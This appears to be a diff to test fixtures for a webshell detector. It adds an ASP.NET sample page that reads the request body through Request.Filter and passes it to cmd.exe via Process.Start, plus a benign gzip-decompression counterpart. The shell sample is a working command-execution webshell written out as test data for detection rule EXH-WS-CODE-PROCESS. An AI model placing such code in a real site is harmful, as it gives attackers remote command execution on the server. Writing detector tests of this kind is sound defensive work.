@@ -1,7 +1,7 @@
 """Request data read where shells hide it from the usual names: the Content-Type header
 (`Request.ContentType`), the client certificate's fields (`Request.ClientCertificate`), and the
 raw worker request (`HttpWorkerRequest`: the preloaded or read body, headers, the query string),
-reached through the context's service provider, and the request reached again through
+reached through the context's service provider, the body read through `Request.Filter`, and the request reached again through
 `Request.RequestContext.HttpContext.Request` (docs/detection/webshell-code.md, "Less common
 ways to the request"); and values kept in the session, application or cache through their `Add`,
 `Set` and `Insert` methods."""
@@ -68,6 +68,16 @@ SHELLS = [
         "EXH-WS-CODE-PROCESS",
         ["HttpWorkerRequest", "Process.Start"],
     ),
+    (
+        "filter.aspx",
+        # the body read through the request's filter stream, not its InputStream
+        cs_page(
+            "var b = new byte[Request.ContentLength];\nRequest.Filter.Read(b, 0, b.Length);\n"
+            'System.Diagnostics.Process.Start("cmd.exe", "/c " + System.Text.Encoding.UTF8.GetString(b));'
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["the request body", "Process.Start"],
+    ),
 ]
 
 
@@ -84,6 +94,16 @@ BENIGN = [
     (
         "response-type.aspx",
         cs_page('Response.ContentType = "text/plain";\nSystem.Diagnostics.Process.Start("cmd.exe", "/c ver");'),
+    ),
+    (
+        "gzip-body.aspx",
+        # a filter that inflates a compressed body, set and read as data
+        cs_page(
+            "Request.Filter = new System.IO.Compression.GZipStream(Request.Filter, "
+            "System.IO.Compression.CompressionMode.Decompress);\n"
+            "var doc = new System.Xml.XmlDocument(); doc.Load(Request.InputStream);\n"
+            "lit.Text = Server.HtmlEncode(doc.DocumentElement.Name);"
+        ),
     ),
     (
         "worker-log.aspx",
